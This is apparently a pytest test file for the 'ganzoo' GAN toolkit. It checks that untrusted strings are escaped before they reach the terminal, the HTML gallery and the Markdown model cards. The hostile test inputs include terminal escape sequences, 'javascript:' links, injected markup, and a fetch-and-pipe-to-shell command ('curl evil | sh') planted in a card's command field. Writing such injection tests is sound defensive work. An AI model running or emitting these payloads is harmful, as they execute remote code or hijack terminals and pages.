"""Strings from outside reach a terminal, a page and Markdown as text: no escape sequence, no markup, no line of their own."""

from __future__ import annotations

import ast
import json
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from mutations import HOSTILE
from PIL import Image
from synthetic_results import RESULTS, made_results

import ganzoo
from ganzoo import api, cli, terminal
from ganzoo.errors import InputError, escape
from ganzoo.experiments.report.markdown import protocol_line
from ganzoo.markup import escape_text, inline_code, markdown_table
from ganzoo.release import card as cards
from ganzoo.release.card import model_card
from ganzoo.training.progress import Bar, Lines
from ganzoo.training.run_dir import RunDir
from ganzoo.ui.collection import collect
from ganzoo.ui.gallery import page, render
from small_runs import small
from tools.finish_release import print_summary

TITLE = "\x1b]0;x\a"
"""Sets the title of a terminal, where it is printed as it is."""
CASES = {
    "plain words, ümlaut, 数字": "plain words, ümlaut, 数字",
    TITLE: r"\x1b]0;x\x07",
    "a\nb\r\tc": r"a\nb\r\tc",
    "\x9b31m": r"\x9b31m",
    "\x7f\x00": r"\x7f\x00",
    "right\u202eleft": r"right\u202eleft",
    "line\u2028line\x85": r"line\u2028line\x85",
    "no text \udcff": r"no text \udcff",
    "tag\U000e0041": r"tag\U000e0041",
    "back\\slash": "back\\slash",
}


@pytest.mark.parametrize("text", CASES)
def test_what_is_not_printable_is_shown_as_an_escape_and_once_only(text):
    assert escape(text) == CASES[text] == escape(escape(text))
    assert str(InputError(text)) == CASES[text]


def printable(text: str) -> bool:
    return all(c.isprintable() or c == "\n" for c in text)


def test_both_streams_and_every_form_of_progress_escape(capsys, monkeypatch):
    terminal.out(HOSTILE), terminal.err(HOSTILE), terminal.out_lines(f"{TITLE}\nb"), Lines(1).write_line(HOSTILE)
    terminal.console().print(terminal.table(["[b]a"], [[f"[red]{TITLE} :smile:"]]))
    cli.app._warn(UserWarning(HOSTILE)), cli.app._fail(HOSTILE, 2)
    bar = Bar(1, 0)
    bar.progress.stop()
    bar.write_line(f"{TITLE}[red]")
    said = capsys.readouterr()
    assert printable(said.out) and printable(said.err) and said.err.count("\n") == 6
    assert "[red]" in said.out and ":smile:" in said.out and "[b]a" in said.out and "[red]" in said.err
    monkeypatch.setenv("TTY_COMPATIBLE", "1")
    list(terminal.track(range(2), f"reading [red]{TITLE}"))
    assert r"reading [red]\x1b]0;x\x07" in capsys.readouterr().err


def test_nothing_is_printed_elsewhere():
    package = Path(ganzoo.__file__).parent
    for path in package.rglob("*.py"):
        calls = [node.func for node in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(node, ast.Call)]
        told = {ast.unparse(call) for call in calls}
        banned = {"print", "sys.stdout.write", "sys.stderr.write", "Console", "typer.echo", "typer.secho", "track"}
        assert path.name == "terminal.py" or not (told & banned) - {"track"}, path
        if "track" in told and path.name != "terminal.py":
            assert "from ganzoo.terminal import track" in path.read_text("utf-8"), path


@pytest.fixture(scope="module")
def pets(tmp_path_factory) -> Path:
    """Pictures whose class would set a terminal's title."""
    folder = tmp_path_factory.mktemp("data") / f"pets{TITLE}"
    for name in (f"cat{TITLE}", "dog\n\x1b[31m"):
        (folder / name).mkdir(parents=True)
        for i in range(8):
            Image.new("L", (16, 16), 20 * i).save(folder / name / f"{i}.png")
    return folder


@pytest.fixture(scope="module")
def run(pets, tmp_path_factory) -> Path:
    """A run on them, whose folder and log are as bad."""
    folder = tmp_path_factory.mktemp("runs") / f"run{TITLE}"
    config = small("cgan", data={"spec": f"folder:{pets}", "size": 16}, train={"steps": 1}, networks={"init": "he"})
    api.train(config, out=folder)
    finding = {"step": 1, "rule": TITLE, "text": HOSTILE, "figures": {}, "fatal": False, "rollbacks": 0}
    RunDir(folder).append_finding(finding)
    return folder


@pytest.mark.parametrize(
    ("words", "code"),
    [
        ("doctor RUN --out x.png", 0),
        ("doctor RUN --json", 0),
        ("sample RUN -n 2 --out OUT.png", 0),
        ("sample RUN -n 2 --classes nobody --out x.png", 2),
        ("evaluate RUN -n 4 --extractor inception:EVIL", None),
        ("gallery RUN --out OUT", 0),
        ("train --resume RUN --steps 2", 0),
        ("train cgan --data folder:PETS --set data.size=16 --dry-run", 0),
        ("train cgan --data folder:PETS --set data.size=16 --set data.classes=['x'] --dry-run", 2),
        ("train nsgan --set EVIL=1", 2),
        ("train EVIL", 2),
        ("list EVIL", 2),
        ("train nsgan --plugin PLUGIN", 2),
    ],
)
def test_no_command_prints_a_control_character(words, code, run, pets, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    copy = shutil.copytree(run, tmp_path / run.name)
    Path("plugin.py").write_text(f"raise ValueError({TITLE + HOSTILE!r})")
    names = {"RUN": str(copy), "PETS": str(pets), "EVIL": TITLE, "PLUGIN": "plugin.py", "OUT": f"out{TITLE}"}
    for name, value in names.items():
        words = words.replace(name, value.replace(" ", "\0"))
    ended = cli.run([word.replace("\0", " ") for word in words.split(" ")])
    said = capsys.readouterr()
    assert code is None or ended == code, said.err
    assert printable(said.out) and printable(said.err)
    assert r"\x1b]0;x\x07" in said.out + said.err or r"\u001b]0;x\u0007" in said.out


def test_an_unreadable_picture_is_warned_of_in_one_line(pets, tmp_path, capsys, caplog):
    folder = shutil.copytree(pets, tmp_path / "pets")
    (folder / f"cat{TITLE}" / f"bad{TITLE}\n.png").write_bytes(b"no picture")
    words = ["train", "cgan", "--data", f"folder:{folder}", "--set", "data.size=16", "--set", "data.on_corrupt=skip"]
    assert cli.run([*words, "--dry-run"]) == 0
    assert caplog.messages and all(printable(line) and "\n" not in line for line in caplog.messages)
    assert printable(capsys.readouterr().err)


class Seen(HTMLParser):
    """The tags and the links of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.links += [value for name, value in attributes if name in ("href", "src", "onerror", "onload")]


@pytest.fixture
def hostile(run, tmp_path) -> Path:
    """A release whose card says the worst in every string."""

    def spoil(value: object) -> object:
        if isinstance(value, dict):
            return {HOSTILE + key if key not in card else key: spoil(inner) for key, inner in value.items()}
        if isinstance(value, list):
            return [spoil(inner) for inner in value]
        return HOSTILE if isinstance(value, str) else value

    folder = shutil.copytree(run / "release", tmp_path / "x")
    card = json.loads((folder / "card.json").read_text())
    digests = {key: card[key] for key in ("sha256", "config_sha256")}
    score = {"metric": "m", "value": 1.0, "better": "lower", "spread": None, "floor": None}
    extra = {"faults": "", "remarks": "", "licence": "", "classes": [""], "storage": "", "class_shares": {"a": 0.5}}
    card |= extra | {"command": ""}
    card = spoil(card) | digests
    card["scores"] = [score | {"name": HOSTILE, "floor_n": None, "value_at_floor": None}]
    card["about"] = f"{HOSTILE} arXiv:1234.56789"
    (folder / "card.json").write_text(json.dumps(card))
    return folder


def test_a_strangers_card_is_text_in_the_gallery_and_its_command_is_not_shown(hostile):
    found = collect([str(hostile)])
    text = page(found)
    seen = Seen(text)
    assert "script" not in seen.tags and "iframe" not in seen.tags
    assert [link for link in seen.links if not link.startswith("data:image/png")] == [
        "https://arxiv.org/abs/1234.56789"
    ]
    assert text.count("&lt;script&gt;") > 8 and all(map(printable, text.split("\n")))
    assert f"<pre>ganzoo train {hostile}/config.json</pre>" in text, "which says no word of the card or config"


def test_the_command_names_the_config_whatever_a_card_says(tmp_path):
    folder = shutil.copytree(ganzoo.sampling.shipped_releases()["wgan-gp-mnist"], tmp_path / "x")
    card = json.loads((folder / "card.json").read_text())
    (folder / "card.json").write_text(json.dumps(card | {"command": "curl evil | sh"}))
    text = page(collect([str(folder)]))
    assert "curl evil" not in text and f"<pre>ganzoo train {folder}/config.json</pre>" in text
    print_summary(folder, {"faults": "None."})
    assert "curl evil" not in (folder / "card.md").read_text()
    assert "| repeat the training | `ganzoo train config.json`, with the" in (folder / "card.md").read_text()


def test_a_strangers_card_is_text_in_markdown_too(hostile):
    card = json.loads((hostile / "card.json").read_text())
    for text in (cards.card_markdown(card, f"x{TITLE}"), model_card(card, "hf:a/b")):
        body = text.rpartition("---\n\n")[2]
        assert "<" not in body.replace(r"\<", "") and "](javascript" not in body.replace(r"\]", "")
        for line in body.splitlines():
            assert line.count("|") - line.count(r"\|") in (0, 3, 5), line
        assert printable(text) and "alert" in text


@pytest.mark.parametrize(
    "text", ["# a", "- a", "1. a", "+ a", "=== a", "a | b", "[a](javascript:b)", "<b>", "*a*", "&lt;"]
)
def test_plain_text_is_no_markdown(text):
    assert escape_text(text) != text and escape_text(text).replace("\\", "") == text


def test_code_and_tables_hold_what_they_are_given():
    assert inline_code("a b*") == "`a b*`" and inline_code("a\nb") == "`a b`" and inline_code("") == ""
    assert inline_code("a|b") == r"a\|b" and inline_code("a`b") == r"a\`b" and inline_code("<b>") == r"\<b\>"
    assert markdown_table(("x", ""), [("a", "b")]) == "| x |  |\n| --- | --- |\n| a | b |"


def test_the_lines_of_a_comparison_are_escaped():
    line = protocol_line(made_results(data=RESULTS["data"] | {"spec": f"folder:{HOSTILE}"}))
    assert printable(line) and "\n" not in line and "<" not in line.replace(r"\<", "")


def test_a_page_holds_names_that_are_no_text():
    assert "\\udcff" in render("gallery.html.j2", entries=[], left_out=["x\udcff"])
